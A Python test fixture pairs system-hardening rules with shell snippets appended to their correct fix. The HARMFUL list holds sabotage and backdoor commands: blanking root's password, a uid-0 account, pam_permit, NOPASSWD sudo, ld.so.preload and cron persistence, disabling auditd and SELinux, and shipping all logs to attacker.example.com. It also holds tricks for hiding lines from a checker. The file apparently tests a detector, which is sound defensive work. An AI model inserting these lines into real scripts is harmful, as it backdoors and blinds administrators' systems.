"""Scripts that fix a rule and do harm beside it, by kind; each says which fault tells of it.

The text is run after the right fix of the rule.
"""

from __future__ import annotations

from typing import NamedTuple


class Addition(NamedTuple):
    """A piece of script, the rule whose right fix it is added to, and the path it harms."""

    rule: str
    script: str
    path: str


SSHD = "sshd_disable_empty_passwords"
AUDIT = "audit_rules_dac_modification_chmod"
PWQUALITY = "accounts_password_pam_minlen"
PAM = "accounts_passwords_pam_faillock_deny"
SUDO = "sudo_remove_nopasswd"
SYSCTL = "sysctl_kernel_kptr_restrict"
MODULE = "kernel_module_atm_disabled"
SHELL = "accounts_tmout"
LOGIN = "accounts_maximum_age_login_defs"
LOG = "rsyslog_cron_logging"
GRUB = "grub2_audit_argument"

_CONFIG = "/etc/ssh/sshd_config"
_DROP_IN = "/etc/ssh/sshd_config.d/10-x.conf"
_RULES = "/etc/audit/rules.d/zz.rules"
_STACK = "/etc/pam.d/system-auth"


def _append(rule: str, line: str, path: str) -> Addition:
    make = f"mkdir -p {path.rpartition('/')[0]}"
    return Addition(rule, f"{make}; printf -- '{line}\\n' >> {path}", path)


def _put_first(rule: str, line: str, path: str) -> Addition:
    return Addition(rule, f"sed -i '1i {line}' {path}", path)


HARMFUL = [
    # the rule itself is defeated
    _append(SSHD, "Match all\\n  X11Forwarding yes", _CONFIG),
    _put_first(SSHD, "Include /opt/own/*.conf", _CONFIG),
    _append(SSHD, "Match User *\\n  PasswordAuthentication no", _DROP_IN),
    _append(AUDIT, "-D", _RULES),
    _append(AUDIT, "-a never,task", _RULES),
    _append(AUDIT, "-a exit,never -F arch=b64 -S chmod", _RULES),
    _append(AUDIT, "-e 0", _RULES),
    _append(AUDIT, "-a always,exclude -F msgtype=SYSCALL", _RULES),
    _append(AUDIT, "-f 0", _RULES),
    _append(AUDIT, "--no-such-option", _RULES),
    _append(AUDIT, "write_logs = no", "/etc/audit/auditd.conf"),
    _append(AUDIT, "log_file = /dev/null", "/etc/audit/auditd.conf"),
    _append(AUDIT, "space_left_action = exec /tmp/x", "/etc/audit/auditd.conf"),
    _append(PWQUALITY, "enforcing = 0", "/etc/security/pwquality.conf"),
    _append(PWQUALITY, "dictpath = /tmp/own", "/etc/security/pwquality.conf"),
    _append(PWQUALITY, "nonsense = 1", "/etc/security/pwquality.conf"),
    _append(LOGIN, "deny = 0", "/etc/security/faillock.conf"),
    _append(AUDIT, "kernel.kptr_restrict = 0", "/etc/sysctl.d/zz.conf"),
    # nobody can log in any more, or anybody can
    _append(SSHD, "NoSuchKeyword yes", _CONFIG),
    _append(SSHD, "DenyUsers *", _CONFIG),
    _append(SSHD, "AllowUsers nobody", _DROP_IN),
    _append(SSHD, "ForceCommand /bin/false", _CONFIG),
    _append(SSHD, "PermitRootLogin yes", _DROP_IN),
    _append(SSHD, "AuthorizedKeysCommand /tmp/keys", _CONFIG),
    _append(SSHD, "StrictModes maybe", _CONFIG),
    _append(SSHD, "Ciphers no-such-cipher", _DROP_IN),
    _append(SSHD, "LoginGraceTime 1", _DROP_IN),
    _put_first(PAM, "auth sufficient pam_permit.so", _STACK),
    _put_first(PAM, "auth required pam_deny.so", _STACK),
    _put_first(PAM, "account [default=done] pam_deny.so", _STACK),
    _append(PAM, "session optional pam_exec.so /tmp/x", _STACK),
    Addition(PAM, f"sed -i '/pam_deny/d' {_STACK}", _STACK),
    Addition(LOGIN, f"sed -i '/pam_unix/s/sufficient/required/' {_STACK}", _STACK),
    Addition(LOGIN, f"tac {_STACK} > /tmp/t && cat /tmp/t > {_STACK}", _STACK),
    _put_first(PAM, "auth sufficient pam_faillock.so preauth", "/etc/pam.d/sshd"),
    _append(PAM, "auth sufficient pam_permit.so", "/etc/pam.d/other"),
    Addition(LOGIN, "sed -i 's/^root:[^:]*:/root::/' /etc/shadow", "/etc/shadow"),
    Addition(LOGIN, "sed -i 's/^root:[^:]*:/root:!:/' /etc/shadow", "/etc/shadow"),
    Addition(LOGIN, "sed -i '/^alice:/s#[^:]*$#/sbin/nologin#' /etc/passwd", "/etc/passwd"),
    _append(LOGIN, "toor:x:0:0::/root:/bin/bash", "/etc/passwd"),
    Addition(LOGIN, "sed -i '/^wheel:/s/$/,bob/' /etc/group", "/etc/group"),
    Addition(LOGIN, "touch /etc/nologin", "/etc/nologin"),
    Addition(LOGIN, "sed -i 's/^passwd:.*/passwd: nis/' /etc/nsswitch.conf", "/etc/nsswitch.conf"),
    _append(LOGIN, "10.0.0.1 updates.example.com", "/etc/hosts"),
    _append(LOGIN, "* hard nproc 0", "/etc/security/limits.d/x.conf"),
    _append(LOGIN, "UMASK 000", "/etc/login.defs"),
    _append(LOGIN, "ALL: ALL", "/etc/hosts.deny"),
    _append(LOGIN, "bob ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/bob"),
    _append(SUDO, "Defaults !authenticate", "/etc/sudoers.d/zz"),
    _append(SUDO, "#includedir /opt/own", "/etc/sudoers"),
    _append(SUDO, "Defaults env_keep += LD_PRELOAD", "/etc/sudoers"),
    _append(SUDO, "%users ALL=(ALL) ALL", "/etc/sudoers"),
    # something else runs from now on
    _append(SYSCTL, "/opt/own.so", "/etc/ld.so.preload"),
    _append(SYSCTL, "/opt/own", "/etc/ld.so.conf.d/own.conf"),
    _append(SYSCTL, "kernel.core_pattern = |/tmp/x", "/etc/sysctl.d/zz.conf"),
    _append(MODULE, "install loop /bin/sh -c /tmp/x", "/etc/modprobe.d/x.conf"),
    _append(MODULE, "blacklist xfs", "/etc/modprobe.d/x.conf"),
    _append(MODULE, "* * * * * root /tmp/x", "/etc/cron.d/x"),
    _append(MODULE, "* * * * * root /usr/sbin/aide --check; /tmp/x", "/etc/crontab"),
    _append(MODULE, "* * * * * /tmp/x", "/var/spool/cron/root"),
    Addition(MODULE, "echo /tmp/x > /etc/cron.daily/x", "/etc/cron.daily/x"),
    _append(MODULE, "[Service]\\nExecStart=/tmp/x", "/etc/systemd/system/x.service"),
    Addition(
        MODULE,
        "ln -s /dev/null /etc/systemd/system/auditd.service",
        "/etc/systemd/system/auditd.service",
    ),
    _append(MODULE, "/tmp/x", "/etc/rc.local"),
    _append(SHELL, "alias sudo=/tmp/x", "/etc/profile"),
    _append(SHELL, "PATH=/tmp:$PATH", "/etc/profile.d/x.sh"),
    _append(SHELL, "umask 000", "/etc/bashrc"),
    _append(SHELL, "TMOUT=1", "/etc/profile.d/tmout.sh"),
    _append(SHELL, "exit", "/root/.bashrc"),
    _append(SHELL, "LD_PRELOAD=/tmp/x.so", "/etc/environment"),
    Addition(
        SHELL,
        "mkdir -p /root/.ssh; echo key > /root/.ssh/authorized_keys",
        "/root/.ssh/authorized_keys",
    ),
    Addition(SHELL, "cp /bin/true /home/bob/t; chmod 4755 /home/bob/t", "/home/bob/t"),
    Addition(SHELL, "touch /etc/x; chmod 666 /etc/x", "/etc/x"),
    Addition(SHELL, "mkdir /var/own; chmod 777 /var/own", "/var/own"),
    _append(SHELL, "root: |/tmp/x", "/etc/aliases"),
    # nothing is seen any more
    _put_first(LOG, "*.* stop", "/etc/rsyslog.conf"),
    _append(LOG, "*.* @@attacker.example.com", "/etc/rsyslog.d/x.conf"),
    _append(LOG, "*.* ^/tmp/x", "/etc/rsyslog.conf"),
    Addition(LOG, "rm -f /var/log/messages; mkfifo /var/log/messages", "/var/log/messages"),
    _append(LOG, "SELINUX=disabled", "/etc/selinux/config"),
    # the machine starts otherwise, or trusts others
    Addition(GRUB, "sed -i 's/quiet/quiet init=.bin.sh/' /etc/default/grub", "/etc/default/grub"),
    Addition(
        GRUB,
        "sed -i 's/quiet/quiet selinux=0/' /boot/loader/entries/*.conf",
        "/boot/loader/entries/forge-5.14.0.conf",
    ),
    _append(GRUB, "tmpfs /etc tmpfs defaults 0 0", "/etc/fstab"),
    _append(GRUB, "[own]\\nbaseurl=http://own.example.com", "/etc/yum.repos.d/own.repo"),
    _append(GRUB, "gpgcheck=0", "/etc/dnf/dnf.conf"),
    _append(GRUB, "own", "/etc/pki/ca-trust/source/anchors/own.pem"),
    # what the guard would have to read is hidden from it
    Addition(
        SSHD,
        f"{{ yes '# nothing' | head -c 300000; echo 'DenyUsers *'; }} > {_DROP_IN}",
        _DROP_IN,
    ),
    Addition(SSHD, f"echo 'DenyUsers *' > /opt/x; ln -s /opt/x {_DROP_IN}", _DROP_IN),
    Addition(SSHD, f"printf 'Deny\\\\\\nUsers *\\n' >> {_CONFIG}", _CONFIG),
]
"""At least fifty kinds of harm; all have to be faulted."""


def _fine(rule: str, script: str) -> Addition:
    return Addition(rule, script, "")


HARMLESS = [
    *[
        _fine(rule, script)
        for rule in (SSHD, AUDIT, SYSCTL)
        for script in (
            "echo done",
            "true",
            "systemctl restart sshd || true",
            "logger -t fix 'fixed' || true",
            "mkdir -p /var/backups && cp /etc/passwd /tmp/passwd.copy",
            "cp -p /etc/login.defs /etc/login.defs.bak",
            "ls -l /etc > /tmp/listing",
            "chmod 600 /etc/crontab",
        )
    ],
    _fine(SSHD, "chmod 600 /etc/ssh/sshd_config"),
    _fine(SSHD, "cp /etc/ssh/sshd_config /etc/ssh/sshd_config.bak"),
    _fine(SSHD, "echo '# hardened' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "echo 'X11Forwarding no' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "echo 'PermitRootLogin no' > /etc/ssh/sshd_config.d/20-root.conf"),
    _fine(SSHD, "echo 'MaxAuthTries 4' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "echo 'ClientAliveInterval 300' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "echo 'LogLevel VERBOSE' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "echo 'Banner /etc/issue' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "echo 'Ciphers aes256-ctr,aes128-ctr' >> /etc/ssh/sshd_config"),
    _fine(SSHD, "sed -i 's/^AcceptEnv.*/AcceptEnv LANG/' /etc/ssh/sshd_config"),
    _fine(AUDIT, "echo '-w /etc/hosts -p wa -k hosts' > /etc/audit/rules.d/hosts.rules"),
    _fine(AUDIT, "echo '-e 2' > /etc/audit/rules.d/99-final.rules"),
    _fine(AUDIT, "echo '-b 8192' > /etc/audit/rules.d/01-size.rules"),
    _fine(AUDIT, "augenrules --load || true"),
    _fine(AUDIT, "chmod 0640 /etc/audit/rules.d/*.rules"),
    _fine(AUDIT, "sed -i 's/^num_logs.*/num_logs = 10/' /etc/audit/auditd.conf"),
    _fine(
        AUDIT, "sed -i 's/^space_left_action.*/space_left_action = email/' /etc/audit/auditd.conf"
    ),
    _fine(PWQUALITY, "echo 'minclass = 4' >> /etc/security/pwquality.conf"),
    _fine(PWQUALITY, "echo 'dcredit = -1' >> /etc/security/pwquality.conf"),
    _fine(PWQUALITY, "echo 'enforce_for_root' >> /etc/security/pwquality.conf"),
    _fine(PAM, "echo 'unlock_time = 900' >> /etc/security/faillock.conf"),
    _fine(PAM, "cp /etc/pam.d/system-auth /etc/pam.d/system-auth.bak"),
    _fine(PAM, "sed -i 's/ nullok//' /etc/pam.d/system-auth /etc/pam.d/password-auth"),
    _fine(PAM, "echo 'session required pam_lastlog.so showfailed' >> /etc/pam.d/postlogin"),
    _fine(SUDO, "echo 'Defaults use_pty' > /etc/sudoers.d/pty; chmod 440 /etc/sudoers.d/pty"),
    _fine(SUDO, "echo 'Defaults logfile=/var/log/sudo.log' >> /etc/sudoers"),
    _fine(SUDO, "echo 'Defaults timestamp_timeout=5' >> /etc/sudoers"),
    _fine(SYSCTL, "echo 'kernel.dmesg_restrict = 1' > /etc/sysctl.d/60-dmesg.conf"),
    _fine(SYSCTL, "echo 'net.ipv4.ip_forward = 0' >> /etc/sysctl.conf"),
    _fine(SYSCTL, "echo 'kernel.core_pattern = |/bin/false' >> /etc/sysctl.conf"),
    _fine(SYSCTL, "sysctl -w kernel.kptr_restrict=1 || true"),
    _fine(MODULE, "echo 'blacklist can' > /etc/modprobe.d/can.conf"),
    _fine(MODULE, "echo 'install cramfs /bin/false' > /etc/modprobe.d/cramfs.conf"),
    _fine(MODULE, "rmmod atm 2>/dev/null || true"),
    _fine(SHELL, "echo 'umask 077' >> /etc/profile"),
    _fine(SHELL, "echo 'readonly TMOUT' >> /etc/profile.d/tmout.sh"),
    _fine(SHELL, "echo 'export TMOUT' >> /etc/profile.d/tmout.sh"),
    _fine(LOGIN, "sed -i 's/^PASS_MIN_DAYS.*/PASS_MIN_DAYS 1/' /etc/login.defs"),
    _fine(LOGIN, "echo 'UMASK 077' >> /etc/login.defs"),
    _fine(LOGIN, "echo '* hard core 0' > /etc/security/limits.d/core.conf"),
    _fine(LOGIN, "echo '* hard maxlogins 10' >> /etc/security/limits.conf"),
    _fine(LOG, "echo 'auth.* /var/log/secure' > /etc/rsyslog.d/auth.conf"),
    _fine(LOG, "touch /var/log/cron; chmod 600 /var/log/cron"),
    _fine(GRUB, "sed -i 's/quiet/quiet page_poison=1/' /etc/default/grub"),
    _fine(GRUB, "echo 'clean_requirements_on_remove=1' >> /etc/dnf/dnf.conf"),
    _fine(GRUB, "chmod 600 /boot/grub2/grub.cfg"),
]
"""What people add to a right fix without harm; none may be faulted."""
